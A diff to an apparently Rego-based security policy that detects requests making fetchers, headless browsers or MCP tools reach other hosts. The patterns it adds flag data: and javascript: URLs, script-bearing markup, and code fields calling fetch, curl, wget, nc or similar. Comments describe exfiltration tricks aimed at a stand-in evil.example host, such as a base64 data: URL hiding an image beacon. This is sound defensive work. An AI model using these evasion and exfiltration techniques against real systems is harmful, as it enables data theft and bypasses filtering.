@@ -1486,6 +1486,76 @@ query_subdomains contains h if {
 	some h in target_hosts(v)
 }
 
+# A document a fetcher renders whose requests no pattern can read (eighteenth pass): a `data:` URL of
+# markup (`data:text/html;base64,…` holds `<img src="https://evil.example/?d=…">` out of sight) or a
+# `javascript:` URL where a fetcher's URL goes; markup a renderer runs (`<script>`, an `on…=`
+# handler, a `data:` or `javascript:` URL, an iframe's `srcdoc`) in an `html` or `svg` field; code a
+# browser or runner executes (`code`, `script`, `expression`: Browserless' `/function`, CDP's
+# `Runtime.evaluate`) that reaches the network. Each builds its URL as it runs: held as a fetch of a
+# URL whose host cannot be read.
+# (Blanks and control characters before the scheme, raw or escaped, are stripped by WHATWG's parser.)
+fetches_elsewhere if {
+	some t in active_url_texts
+	active_url(t)
+}
+
+fetches_elsewhere if {
+	some [p, v] in body_strings
+	render_runs(field_name(p), v)
+}
+
+fetches_elsewhere if {
+	some [p, v] in body_strings
+	code_reaches_network(field_name(p), v)
+}
+
+active_url(t) if regex.match(`(?i)^(?:[\s\x00-\x1f]|%[01][0-9a-f]|%20)*(?:data(?::|%3a)\s*(?:text|image|application)(?:/|%2f)(?:html|svg|xhtml|xml)|(?:java|vb)script(?::|%3a))`, t)
+
+render_runs(k, v) if {
+	field_norm(k) in {"html", "svg", "xhtml", "markup"}
+	regex.match(`(?i)<script|<[^>]*\son[a-z]+\s*=|(?:java|vb)script:|data:\s*(?:text/html|image/svg|application/(?:xhtml|xml)|text/xml)|srcdoc\s*=`, v)
+}
+
+code_reaches_network(k, v) if {
+	field_norm(k) in code_names
+	regex.match(`(?i)\b(?:fetch|goto|navigate|sendBeacon|XMLHttpRequest|WebSocket|EventSource|importScripts|import|urlopen|open)\s*\(|new\s+Image\b|\blocation(?:\.href)?\s*=|\.src\s*=|\b(?:requests|httpx|axios|urllib|http|https|net|socket|dns)\.[a-z]|\b(?:curl|wget|nc|ssh)\s`, v)
+}
+
+# The same readings of an MCP tool's or prompt's argument `k` (eighteenth pass): a task in prose, a
+# host-named argument, a document or code a browser tool renders or runs.
+argument_fetches(_, v) if active_url(v)
+
+argument_fetches(k, v) if render_runs(k, v)
+
+argument_fetches(k, v) if code_reaches_network(k, v)
+
+argument_fetches(k, v) if {
+	field_norm(k) in task_names
+	task_names_elsewhere(v)
+}
+
+argument_fetches(k, v) if {
+	host_field(k)
+	some h in target_hosts(v)
+	not harmless_target(h)
+}
+
+code_names := {"code", "script", "scripts", "function", "func", "expression", "js", "javascript", "evaluate", "pagefunction", "source_code", "sourcecode"}
+
+active_url_texts contains v if {
+	some k, vs in object.get(input.request, "query", {})
+	query_url_key(k)
+	some v in vs
+}
+
+# A reader's path from its start (`r.jina.ai/data:text/html;base64,…`; a media type's `/` splits it
+# into segments).
+active_url_texts contains trim_left(object.get(input.request, "path", ""), "/")
+
+active_url_texts contains v if some v in body_fetch_texts
+
+active_url_texts contains v if some v in body_url_texts
+
 # A query's values, and a parameter with no `=` taken as one: a server may read the whole query as the
 # URL to open (Chrome's DevTools endpoint `/json/new?4111.evil.com`, a previewer's `?{url}`), so a
 # name given there reaches its site as a value's does (eighteenth pass: the patterns read values
@@ -1683,6 +1753,14 @@ mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
 	not same_site(h)
 }
 
+mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
+	some c in mcp_calls
+	c.method == "tools/call"
+	mcp_call_is_read(c)
+	some [k, v] in array.slice([[p[count(p) - 1], t] | walk(object.get(c, "arguments", {}), [p, t]); is_string(t); count(p) > 0], 0, 2048)
+	argument_fetches(k, v)
+}
+
 # A prompt got with arguments runs the server's code with them: mcp-server-fetch's `fetch` prompt
 # fetches its `url` argument to put the page in the prompt's messages (seventeenth pass: only tool
 # calls and resources were read). Read from the body, which holds the arguments.
@@ -1703,6 +1781,8 @@ else := [input.request.body.json] if is_object(input.request.body.json)
 else := []
 
 prompt_argument_fetches(_, t) if text_fetches_elsewhere(t)
+
+prompt_argument_fetches(k, t) if argument_fetches(k, t)
 
 # A host alone in an argument named for a URL (`{"url": "4111.evil.com"}`).
 prompt_argument_fetches(k, t) if {
